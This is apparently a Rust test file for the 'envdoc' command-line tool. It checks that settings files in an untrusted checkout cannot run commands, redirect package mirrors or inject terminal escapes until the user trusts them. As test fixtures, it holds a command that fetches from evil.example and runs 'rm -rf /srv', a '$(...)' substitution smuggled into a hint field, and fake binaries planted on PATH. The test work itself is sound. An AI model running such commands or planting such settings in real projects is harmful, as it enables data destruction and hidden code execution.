//! Own checks of settings files, and what a checkout that somebody else wrote cannot do with them.
#![expect(clippy::disallowed_methods, clippy::unwrap_used, reason = "tests run the program")]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Output};

use serde_json::Value;

/// A project with a home directory that is not above it.
struct Checkout {
    folder: tempfile::TempDir,
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

impl Checkout {
    fn new() -> Checkout {
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir(folder.path().join("project")).unwrap();
        fs::create_dir_all(folder.path().join("home/.config/envdoc")).unwrap();
        Checkout { folder }
    }

    fn project(&self) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join("project")
    }

    fn write(&self, name: &str, content: &str) -> PathBuf {
        let path = self.project().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, content).unwrap();
        path
    }

    fn script(&self, name: &str, content: &str) {
        let path = self.write(name, content);
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
    }

    fn run(&self, arguments: &[&str]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_envdoc"));
        command.args(arguments).current_dir(self.project()).env("ENVDOC_CATALOG_DIR", "");
        command.env("HOME", self.folder.path().join("home"));
        // An empty entry of PATH is the working directory.
        command.env("PATH", format!(".::{}", std::env::var("PATH").unwrap()));
        for name in ["XDG_CONFIG_HOME", "XDG_STATE_HOME", "ENVDOC_IGNORE", "ENVDOC_EXPECT", "ENVDOC_CONFIG"] {
            command.env_remove(name);
        }
        command.env_remove("ENVDOC_NO_CONFIG").output().unwrap()
    }

    /// Status and message of each own check.
    fn checked(&self, arguments: &[&str]) -> Vec<(String, String, String)> {
        let output = self.run(&[&["check", "--only", "own", "--format", "json"], arguments].concat());
        let report: Value =
            serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{}", text(&output.stderr)));
        let results = report["results"].as_array().unwrap().iter();
        let word = |value: &Value| value.as_str().unwrap().to_owned();
        results
            .map(|result| (word(&result["check"]), word(&result["status"]), word(&result["message"])))
            .collect()
    }

    fn status_of(&self, id: &str) -> String {
        self.checked(&[]).into_iter().find(|(name, ..)| name == id).unwrap().1
    }
}

/// A snapshot of a machine of which little is known.
fn snapshot(checkout: &Checkout) {
    checkout.write("m.json", r#"{"schema":1,"envdoc":"0.1.0","redacted":true,"readings":{}}"#);
}

#[test]
fn a_hostile_checkout_executes_nothing() {
    let checkout = Checkout::new();
    let marker = checkout.folder.path().canonicalize().unwrap().join("executed");
    let payload = format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\n", marker.display());
    for name in ["payload.sh", "sh", "uv", "git", "docker", "ssh", "nvidia-smi", "env", "bin/true"] {
        checkout.script(name, &payload);
    }
    let touch = format!("touch '{}'", marker.display());
    checkout.write(
        "envdoc.toml",
        &format!(
            "pip-index = 'https://evil.example/simple'\napt-mirror = 'https://evil.example'\n\
             registry = 'evil.example/team'\ncluster-file = '../outside.yaml'\n\
             [[check]]\nname = 'list'\ncommand = ['touch', '{0}']\n\
             [[check]]\nname = 'shell'\ncommand = \"\"\"{touch}\"\"\"\n\
             [[check]]\nname = 'script'\ncommand = ['./payload.sh']\n\
             [[check]]\nname = 'hint'\ncommand = 'true'\nhint = '$({touch2})'\n",
            marker.display(),
            touch2 = touch.replace('\'', "")
        ),
    );
    checkout.write(
        "pyproject.toml",
        "[tool.envdoc]\n[[tool.envdoc.check]]\nname = 'p'\ncommand = './payload.sh'\n",
    );
    checkout.write("Dockerfile", "FROM python:3.12\n");
    checkout.write("request.yaml", "torch: 2.6.0\ncuda: 12.4\n");
    snapshot(&checkout);
    let commands: &[&[&str]] = &[
        &["check"],
        &["check", "--format", "json", "--verbose"],
        &["check", "--only", "own"],
        &["check", "--only", "own:shell", "--quiet"],
        &["check", "--config", "pyproject.toml"],
        &["check", "--from", "m.json"],
        &["check", "--root", "."],
        &["config"],
        &["explain", "own:shell"],
        &["trust", "--list"],
        &["trust", "--revoke"],
        &["lint", "."],
        &["render", "dockerfile", "--request", "request.yaml"],
        &["resolve", "--request", "request.yaml"],
        &["build", "--request", "request.yaml", "--dry-run"],
        &["cluster", "status"],
        &["cluster", "render", "-o", "out"],
        &["snapshot", "-o", "s.json"],
        &["matrix"],
        &["completions", "bash"],
    ];
    for arguments in commands {
        let output = checkout.run(arguments);
        let executed = fs::read_to_string(&marker).ok();
        assert!(executed.is_none(), "{arguments:?} executed {executed:?}: {}", text(&output.stderr));
    }
    let results = checkout.checked(&[]);
    assert_eq!(results.len(), 4);
    let command = format!("`envdoc trust {}`", checkout.project().join("envdoc.toml").display());
    for (id, status, message) in results {
        assert!(status == "unknown" && message.contains(&command), "{id}: {status}: {message}");
    }
    assert_eq!(checkout.run(&["check", "--only", "own", "--strict"]).status.code(), Some(3));
    // Of a file that is trusted elsewhere, a link in the checkout is that file: its commands run where it is.
    let infra = checkout.folder.path().join("infra");
    fs::create_dir_all(infra.join("tools")).unwrap();
    fs::write(infra.join("envdoc.toml"), "[[check]]\nname = 'x'\ncommand = './tools/check.sh'\n").unwrap();
    fs::write(infra.join("tools/check.sh"), "#!/bin/sh\necho from infra\nexit 1\n").unwrap();
    fs::set_permissions(infra.join("tools/check.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    assert!(checkout.run(&["trust", "../infra/envdoc.toml"]).status.success());
    checkout.script("tools/check.sh", &payload);
    let own = checkout.project().join("envdoc.toml");
    fs::rename(&own, checkout.project().join("own.toml")).unwrap();
    std::os::unix::fs::symlink("../infra/envdoc.toml", &own).unwrap();
    let results = checkout.checked(&[]);
    assert!(!marker.exists(), "{results:?}");
    assert_eq!(results, [("own:x".into(), "error".into(), "from infra".into())]);
    fs::rename(checkout.project().join("own.toml"), &own).unwrap();
    // The commands do execute something: what kept them from it is that nobody trusted the file.
    assert!(checkout.run(&["trust"]).status.success());
    checkout.run(&["check", "--only", "own"]);
    let executed = fs::read_to_string(&marker).unwrap();
    assert!(executed.contains("payload.sh"), "{executed}");
}

const CHECKS: &str = "\
[[check]]
name = 'good'
command = ['true']

[[check]]
name = 'scratch-mounted'
command = 'echo \"/scratch is not mounted\"; exit 1'
hint = 'Mount /scratch.'
severity = 'warning'
";

#[test]
fn trust_holds_for_one_content_until_it_is_revoked() {
    let checkout = Checkout::new();
    let file = checkout.write("envdoc.toml", CHECKS);
    assert_eq!(checkout.status_of("own:good"), "unknown");
    let output = checkout.run(&["trust"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let shown = format!("own:good  runs `true` in {}\n", checkout.project().display());
    assert!(text(&output.stdout).contains(&shown), "shows what may run: {}", text(&output.stdout));
    assert_eq!(checkout.status_of("own:good"), "pass");
    assert_eq!(checkout.status_of("own:scratch-mounted"), "warning");
    let list = || text(&checkout.run(&["trust", "--list"]).stdout);
    assert!(list().starts_with(&format!("{}  (trusted ", file.display())), "{}", list());
    let shown = text(&checkout.run(&["config"]).stdout);
    assert!(shown.contains("own:good: true  (envdoc.toml, line 2)") && !shown.contains("trust"), "{shown}");

    fs::write(&file, CHECKS.replace("'true'", "'false'")).unwrap();
    let (_, status, message) = checkout.checked(&[]).swap_remove(0);
    assert_eq!(status, "unknown");
    assert!(message.contains("has changed since it was trusted"), "{message}");
    assert!(list().contains("; changed since, no longer trusted)"), "{}", list());
    assert!(text(&checkout.run(&["config"]).stdout).contains("envdoc trust "));
    let json: Value = serde_json::from_slice(&checkout.run(&["config", "--format", "json"]).stdout).unwrap();
    assert_eq!(json["untrusted"][0], file.to_str().unwrap());

    checkout.run(&["trust", "envdoc.toml"]);
    assert_eq!(checkout.status_of("own:good"), "error");
    checkout.run(&["trust", "--revoke"]);
    assert_eq!(checkout.status_of("own:good"), "unknown");
    assert_eq!(list(), "No file is trusted.\n");
    let kept = checkout.folder.path().join("home/.local/state/envdoc/trust");
    assert_eq!(kept.metadata().unwrap().permissions().mode() & 0o777, 0o700);
    // A file that is no settings file is not trusted.
    fs::write(&file, "check = 1\n").unwrap();
    assert_eq!(checkout.run(&["trust"]).status.code(), Some(2));
    assert_eq!(list(), "No file is trusted.\n");
}

#[test]
fn every_format_has_own_checks_and_the_exit_code_counts_them() {
    let checkout = Checkout::new();
    checkout.write("envdoc.toml", CHECKS);
    checkout.run(&["trust"]);
    for format in ["text", "json", "junit", "sarif", "github", "markdown", "html"] {
        let output = checkout.run(&["check", "--only", "own", "--format", format]);
        let shown = text(&output.stdout);
        for part in ["own:scratch-mounted", "/scratch is not mounted", "Mount /scratch."] {
            // A title of GitHub's annotations has no colon, and JUnit no fixes.
            let shown = shown.replace("own%3A", "own:");
            let without_fixes = format == "junit" && part.starts_with("Mount");
            assert!(shown.contains(part) || without_fixes, "{format}: {shown}");
        }
        assert_eq!(output.status.code(), Some(0), "a warning");
    }
    let code =
        |arguments: &[&str]| checkout.run(&[&["check", "--only", "own"], arguments].concat()).status.code();
    assert_eq!(code(&["--fail-on", "warning"]), Some(1));
    assert_eq!(code(&["--fail-on", "warning", "--ignore", "own:scratch-mounted"]), Some(0));
    let all = checkout.run(&["check", "--only", "system,own:good", "--verbose"]);
    let shown = text(&all.stdout);
    assert!(shown.contains("Own checks") && shown.contains("own:good: `true` exits with 0"), "{shown}");
    let refused = checkout.run(&["check", "--only", "own:god"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(text(&refused.stderr).contains("did you mean own:good?"));
    let explained = text(&checkout.run(&["explain", "own:good"]).stdout);
    assert!(explained.contains("# own:good") && explained.contains("    true"), "{explained}");

    checkout.write("envdoc.toml", &format!("ignore = ['own:scratch-mounted']\n{CHECKS}"));
    checkout.run(&["trust"]);
    let output = checkout.run(&["check", "--only", "own", "--fail-on", "warning"]);
    assert_eq!(output.status.code(), Some(0));
    assert!(text(&output.stdout).contains("ignored by envdoc.toml: own:scratch-mounted"));
}

#[test]
fn commands_run_for_this_machine_alone() {
    let checkout = Checkout::new();
    let marker = checkout.project().join("ran");
    checkout.write("envdoc.toml", "[[check]]\nname = 'x'\ncommand = 'touch ran'\n");
    checkout.run(&["trust"]);
    snapshot(&checkout);
    for of in [["--from", "m.json"], ["--root", "."]] {
        let output = checkout.run(&[&["check", "--format", "json"], &of[..]].concat());
        assert!(!text(&output.stdout).contains("own:x"), "{of:?}");
        // Also next to others: a report without it would look as if it had passed.
        for only in ["own", "own:x", "own:x,driver", "driver,own"] {
            let refused = checkout.run(&[&["check", "--only", only], &of[..]].concat());
            assert_eq!(refused.status.code(), Some(2), "{only}");
            assert!(text(&refused.stderr).contains("own checks run on this machine only"), "{only}");
        }
    }
    assert!(!marker.exists());
    assert_eq!(checkout.status_of("own:x"), "pass");
    assert!(marker.exists());
}

#[test]
fn files_of_the_user_need_no_trust_unless_others_can_change_them() {
    let checkout = Checkout::new();
    let file = checkout.folder.path().join("home/.config/envdoc/envdoc.toml");
    fs::write(&file, CHECKS).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(checkout.status_of("own:good"), "pass");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o666)).unwrap();
    let (_, status, message) = checkout.checked(&[]).swap_remove(0);
    assert!(status == "unknown" && message.contains("can be modified by other users"), "{message}");
}

fn refused_until_trusted(checkout: &Checkout, arguments: &[&str], option: &[&str], part: &str) {
    let refused = checkout.run(arguments);
    let stderr = text(&refused.stderr);
    assert_eq!(refused.status.code(), Some(2), "{arguments:?}: {stderr}");
    assert!(stderr.contains("is not trusted") && stderr.contains("envdoc trust"), "{arguments:?}: {stderr}");
    let with_option = checkout.run(&[arguments, option].concat());
    assert!(!text(&with_option.stderr).contains("trust"), "{option:?}: {}", text(&with_option.stderr));
    checkout.run(&["trust"]);
    let output = checkout.run(arguments);
    let shown = text(&output.stdout) + &text(&output.stderr);
    assert!(shown.contains(part) && !shown.contains("trust"), "{arguments:?}: {shown}");
    checkout.run(&["trust", "--revoke"]);
}

#[test]
fn settings_that_change_what_a_build_installs_require_trust() {
    let dockerfile = &["render", "dockerfile", "--torch", "2.6.0", "--cuda", "12.4"];
    let checkout = Checkout::new();
    checkout.write("envdoc.toml", "pip-index = 'https://mirror.example/simple'\n");
    let option = ["--pip-index", "https://other.example/simple"];
    refused_until_trusted(&checkout, dockerfile, &option, "https://mirror.example/simple");
    checkout.write(
        "request.yaml",
        "name: train\ntorch: 2.6.0\ncuda: 12.4\nmirrors: {pip_index: 'https://own.example/simple'}\n",
    );
    let named = checkout.run(&["render", "dockerfile", "--request", "request.yaml"]);
    assert_eq!(named.status.code(), Some(0), "the request names an index: {}", text(&named.stderr));
    checkout.write("envdoc.toml", "apt-mirror = 'https://mirror.example'\n");
    refused_until_trusted(
        &checkout,
        dockerfile,
        &["--apt-mirror", "https://other.example"],
        "mirror.example",
    );
    checkout.write("envdoc.toml", "registry = 'registry.example/team'\n");
    checkout.write("Dockerfile", "FROM python:3.12\n");
    let ci = &["render", "ci", "--github", "request.yaml"];
    refused_until_trusted(&checkout, ci, &["--registry", "other.example/team"], "registry.example/team");
    fs::write(checkout.folder.path().join("other.yaml"), "image: a\nnodes: []\n").unwrap();
    checkout.write("envdoc.toml", "cluster-file = '../other.yaml'\n");
    refused_until_trusted(
        &checkout,
        &["cluster", "render", "-o", "out"],
        &["--file", "x.yaml"],
        "other.yaml",
    );
}

/// What is hidden of a command could be what does the harm.
#[test]
fn trust_shows_the_whole_command() {
    let checkout = Checkout::new();
    let (before, after) = ("true; ".repeat(400), "; true".repeat(400));
    let payload = "API_TOKEN=`curl evil.example`; rm -rf /srv";
    checkout.write(
        "envdoc.toml",
        &format!("[[check]]\nname = 'x'\ncommand = \"{before}{payload}{after}\\u001b[2K\"\n"),
    );
    let shown = text(&checkout.run(&["trust"]).stdout);
    assert!(shown.contains(&format!("{before}{payload}{after}")), "{shown}");
    assert!(!shown.contains('\u{1b}') && shown.lines().count() == 1, "{shown:?}");
}

#[test]
fn an_untrusted_file_does_not_switch_off_the_users_checks() {
    let checkout = Checkout::new();
    let user = checkout.folder.path().join("home/.config/envdoc/envdoc.toml");
    fs::write(user, "[[check]]\nname = 'disk'\ncommand = 'exit 1'\n").unwrap();
    for id in ["own", "own:disk"] {
        checkout
            .write("envdoc.toml", &format!("ignore = ['{id}']\n[[check]]\nname = 'p'\ncommand = 'true'\n"));
        let output = checkout.run(&["check", "--only", "own"]);
        assert_eq!(output.status.code(), Some(1), "{id}: {}", text(&output.stdout));
        let note = "own:disk is not ignored: the file is not trusted (envdoc.toml, line 1)";
        assert!(text(&output.stderr).contains(note), "{id}: {}", text(&output.stderr));
        checkout.run(&["trust"]);
        assert_ne!(checkout.run(&["check", "--only", "own"]).status.code(), Some(1), "{id}");
    }
    // A trusted file may, and says so; if nothing is left, there is no report.
    let output = checkout.run(&["check", "--only", "own:disk"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
    let message = "no checks left: own:disk is ignored by envdoc.toml";
    assert!(text(&output.stderr).contains(message), "{}", text(&output.stderr));
}

/// Each mirror is judged by the file that names it.
#[test]
fn an_untrusted_mirror_does_not_block_the_other() {
    let checkout = Checkout::new();
    checkout.write("envdoc.toml", "pip-index = 'https://pip.example/simple'\n");
    let user = checkout.folder.path().join("home/.config/envdoc/envdoc.toml");
    fs::write(user, "apt-mirror = 'https://apt.example'\n").unwrap();
    let dockerfile = &["render", "dockerfile", "--torch", "2.6.0", "--cuda", "12.4"];
    let output = checkout.run(&[&dockerfile[..], &["--pip-index", "https://own.example/simple"]].concat());
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(text(&output.stdout).contains("https://apt.example"), "{}", text(&output.stdout));
    let refused = checkout.run(dockerfile);
    assert_eq!(refused.status.code(), Some(2));
    let project = checkout.project().join("envdoc.toml").display().to_string();
    assert!(text(&refused.stderr).contains(&format!("cannot be used: {project} is not trusted")));
}

#[test]
fn output_of_commands_is_plain_text() {
    let checkout = Checkout::new();
    let line = r"printf '\\033[2J\\033[31mred\\033[0m\\033]0;title\\007 \\302\\2332J\\342\\200\\256txt\\r\\nmore\\033[8m\\n'; exit 1";
    checkout.write("envdoc.toml", &format!("[[check]]\nname = 'x'\ncommand = \"{line}\"\n"));
    checkout.run(&["trust"]);
    for format in ["text", "json", "junit", "sarif", "github", "markdown", "html"] {
        let output =
            checkout.run(&["check", "--only", "own", "--verbose", "--format", format, "--color", "never"]);
        let shown = text(&output.stdout);
        let acts = |c: char| c.is_control() && !matches!(c, '\n' | '\t') || c == '\u{202e}';
        assert!(shown.contains("red") && !shown.contains(acts), "{format}: {shown:?}");
        // The command itself has the sequence in its text.
        assert_eq!(
            shown.matches("[31mred").count(),
            shown.matches(r"033[31mred").count(),
            "{format}: {shown}"
        );
    }
}

#[test]
fn two_files_may_define_the_same_name() {
    let checkout = Checkout::new();
    checkout.write("envdoc.toml", "[[check]]\nname = 'x'\ncommand = 'exit 0'\n");
    let user = checkout.folder.path().join("home/.config/envdoc/envdoc.toml");
    fs::write(user, "[[check]]\nname = 'x'\ncommand = 'exit 1'\n").unwrap();
    let statuses: Vec<String> = checkout.checked(&[]).into_iter().map(|(_, status, _)| status).collect();
    // A file of the checkout cannot take the place of the user's own check.
    assert_eq!(statuses, ["unknown", "error"]);
}

#[test]
fn uv_does_not_read_the_settings_of_a_checkout() {
    let checkout = Checkout::new();
    let tools = checkout.folder.path().canonicalize().unwrap().join("tools");
    fs::create_dir(&tools).unwrap();
    let seen = tools.join("seen");
    let uv = format!(
        "#!/bin/sh\npwd > '{}'\necho 'numpy==2.2.6 --hash=sha256:{}'\n",
        seen.display(),
        "a".repeat(64)
    );
    fs::write(tools.join("uv"), uv).unwrap();
    fs::set_permissions(tools.join("uv"), fs::Permissions::from_mode(0o755)).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_envdoc"));
    command.args(["render", "lock", "--torch", "2.6.0", "--cuda", "12.4"]).current_dir(checkout.project());
    command.env("ENVDOC_CATALOG_DIR", "").env("HOME", checkout.folder.path().join("home"));
    command.env("PATH", format!("{}:{}", tools.display(), std::env::var("PATH").unwrap()));
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert_eq!(fs::read_to_string(&seen).unwrap(), "/\n");
}

/// The link is called pyproject.toml, which says where in the file the settings are; the file is not.
#[test]
fn the_advised_command_trusts_a_file_behind_a_link() {
    let checkout = Checkout::new();
    let infra = checkout.folder.path().join("infra");
    fs::create_dir(&infra).unwrap();
    let settings = "[project]\nname = 'x'\n[[tool.envdoc.check]]\nname = 'x'\ncommand = 'true'\n";
    fs::write(infra.join("common.toml"), settings).unwrap();
    std::os::unix::fs::symlink("../infra/common.toml", checkout.project().join("pyproject.toml")).unwrap();
    let (_, status, message) = checkout.checked(&[]).swap_remove(0);
    assert_eq!(status, "unknown");
    let command = message.split_once("`envdoc ").unwrap().1.trim_end_matches('`');
    let output = checkout.run(&command.split(' ').collect::<Vec<_>>());
    assert_eq!(output.status.code(), Some(0), "{command}: {}", text(&output.stderr));
    assert_eq!(checkout.status_of("own:x"), "pass");
}

#[test]
fn a_file_of_two_levels_counts_once() {
    let checkout = Checkout::new();
    let user = checkout.folder.path().join("home/.config/envdoc/envdoc.toml");
    fs::write(&user, "ignore = ['memlock-too-small']\n[[check]]\nname = 'disk'\ncommand = 'exit 1'\n")
        .unwrap();
    std::os::unix::fs::symlink(&user, checkout.project().join("envdoc.toml")).unwrap();
    let results: Vec<(String, String)> =
        checkout.checked(&[]).into_iter().map(|(id, status, _)| (id, status)).collect();
    assert_eq!(results, [("own:disk".to_owned(), "error".to_owned())]);
}

/// A setting that silently does nothing would be worse than an error.
#[test]
fn a_settings_file_that_cannot_be_read_is_an_error_with_the_reason() {
    let checkout = Checkout::new();
    let file = checkout.project().join("envdoc.toml");
    std::os::unix::fs::symlink("submodule/envdoc.toml", &file).unwrap();
    for arguments in [&["check", "--only", "system"][..], &["config"], &["trust"], &["trust", "envdoc.toml"]]
    {
        let output = checkout.run(arguments);
        assert_eq!((output.status.code(), text(&output.stdout).as_str()), (Some(2), ""), "{arguments:?}");
        let why = "envdoc.toml: the link leads to a file that does not exist";
        assert!(text(&output.stderr).contains(why), "{arguments:?}: {}", text(&output.stderr));
    }
    assert_eq!(checkout.run(&["config", "--no-config"]).status.code(), Some(0));
    std::os::unix::fs::symlink("loop.toml", checkout.project().join("loop.toml")).unwrap();
    let pipe = checkout.project().join("pipe.toml");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    for (name, why) in [
        ("loop.toml", "symbolic links"),
        ("pipe.toml", "it is a named pipe, not a file"),
        ("none.toml", "no such file"),
    ] {
        for arguments in [&["trust", name][..], &["config", "--config", name]] {
            let output = checkout.run(arguments);
            assert_eq!(output.status.code(), Some(2), "{arguments:?}");
            assert!(text(&output.stderr).contains(why), "{arguments:?}: {}", text(&output.stderr));
        }
    }
}

#[test]
fn a_file_that_is_gone_can_be_revoked() {
    let checkout = Checkout::new();
    let infra = checkout.folder.path().canonicalize().unwrap().join("infra");
    fs::create_dir(&infra).unwrap();
    let file = infra.join("envdoc.toml");
    std::os::unix::fs::symlink("../infra/envdoc.toml", checkout.project().join("envdoc.toml")).unwrap();
    for name in ["../infra/envdoc.toml", "envdoc.toml"] {
        fs::write(&file, CHECKS).unwrap();
        assert_eq!(checkout.run(&["trust", name]).status.code(), Some(0));
        fs::remove_file(&file).unwrap();
        let revoked = checkout.run(&["trust", "--revoke", name]);
        let message = format!("{} is no longer trusted\n", file.display());
        assert_eq!((revoked.status.code(), text(&revoked.stderr)), (Some(0), message), "{name}");
        assert_eq!(text(&checkout.run(&["trust", "--list"]).stdout), "No file is trusted.\n");
        let again = checkout.run(&["trust", "--revoke", name]);
        assert_eq!(again.status.code(), Some(2), "nothing was revoked");
        assert!(text(&again.stderr).contains("was not trusted"), "{}", text(&again.stderr));
    }
}

/// The machine of a snapshot in tests/servers.
fn server(name: &str) -> String {
    format!("{}/tests/servers/{name}.json", env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn every_format_names_what_is_left_out_even_if_quiet() {
    let checkout = Checkout::new();
    checkout.write("envdoc.toml", "ignore = ['driver-library-mismatch', 'base-image-missing']\n");
    checkout.write("Dockerfile", "FROM python:3.12\n");
    let machine = server("broken-driver-library-mismatch");
    let check = ["check", "--only", "driver", "--from", &machine];
    let of = [(&check[..], "driver-library-mismatch"), (&["lint", "Dockerfile"], "base-image-missing")];
    for (command, id) in of {
        for format in ["text", "json", "junit", "sarif", "github", "markdown", "html"] {
            let output = checkout.run(&[command, &["--quiet", "--format", format]].concat());
            let shown = text(&output.stdout);
            assert!(shown.contains(id) && shown.contains("envdoc.toml"), "{format}: {shown}");
            assert_eq!(text(&output.stderr), "", "{format}: once, in the report");
        }
    }
    let complete = checkout.run(&[&check[..], &["--no-config", "--format", "json"]].concat());
    let report: Value = serde_json::from_slice(&complete.stdout).unwrap();
    assert_eq!(report["ignored"], serde_json::json!([]), "nothing is left out");
}

#[test]
fn settings_ignore_checks_of_clusters() {
    let checkout = Checkout::new();
    checkout.write("envdoc.toml", "ignore = ['fleet-gpu-differs', 'driver']\n");
    let machines =
        [server("broken-driver-library-mismatch"), server("broken-container-compat-newer-than-driver")];
    let command = ["cluster", "check", "--from", &machines[0], &machines[1]];
    let document = |arguments: &[&str]| -> Value {
        let output = checkout.run(&[&command[..], &["--format", "json"], arguments].concat());
        serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{}", text(&output.stderr)))
    };
    let has = |results: &Value, id: &str| results.as_array().unwrap().iter().any(|one| one["check"] == id);
    let of_driver = |node: &Value| has(&node["results"], "driver-library-mismatch");
    let (all, left) = (document(&["--no-config"]), document(&[]));
    assert!(has(&all["results"], "fleet-gpu-differs") && !has(&left["results"], "fleet-gpu-differs"));
    assert!(all["nodes"].as_array().unwrap().iter().all(of_driver), "{all}");
    assert!(!left["nodes"].as_array().unwrap().iter().any(of_driver), "{left}");
    let ignored =
        ["fleet-gpu-differs", "driver"].map(|id| serde_json::json!({ "id": id, "file": "envdoc.toml" }));
    assert_eq!((&left["ignored"], &all["ignored"]), (&serde_json::json!(ignored), &serde_json::json!([])));
    for format in ["text", "junit", "sarif", "github", "markdown", "html"] {
        let shown = text(&checkout.run(&[&command[..], &["--format", format]].concat()).stdout);
        assert!(shown.contains("fleet-gpu-differs") && shown.contains("envdoc.toml"), "{format}: {shown}");
    }
}

#[test]
fn a_run_in_which_nothing_is_left_is_an_error() {
    let checkout = Checkout::new();
    checkout.write("Dockerfile", "FROM python:3.12\n");
    let refused = |arguments: &[&str], message: &str| {
        let output = checkout.run(arguments);
        assert_eq!((output.status.code(), text(&output.stdout).as_str()), (Some(2), ""), "{arguments:?}");
        assert!(text(&output.stderr).contains(message), "{arguments:?}: {}", text(&output.stderr));
    };
    refused(
        &["check", "--only", "own", "--ignore", "memlock-too-small"],
        "no settings file defines own checks",
    );
    checkout
        .write("envdoc.toml", "ignore = ['base-image-missing']\n[[check]]\nname = 'x'\ncommand = 'true'\n");
    let by_option = "no checks left: driver is ignored by --ignore";
    refused(&["check", "--only", "driver", "--ignore", "driver"], by_option);
    refused(&["check", "--only", "own", "--ignore", "own:x"], "no checks left: own:x is ignored by --ignore");
    let by_file = "no rules left: base-image-missing is ignored by envdoc.toml";
    refused(&["lint", "Dockerfile", "--only", "base-image-missing"], by_file);
    let lint = ["lint", "--no-config", "--only", "base-image-missing", "--ignore", "base-image-missing"];
    refused(&lint, "no rules left: base-image-missing is ignored by --ignore");
}

#[test]
fn a_name_that_no_own_check_can_have_is_explained() {
    let checkout = Checkout::new();
    for name in ["own:", "own:A_b"] {
        let output = checkout.run(&["explain", name]);
        assert_eq!(output.status.code(), Some(2));
        assert!(text(&output.stderr).contains("an own check is own:NAME"), "{}", text(&output.stderr));
    }
}
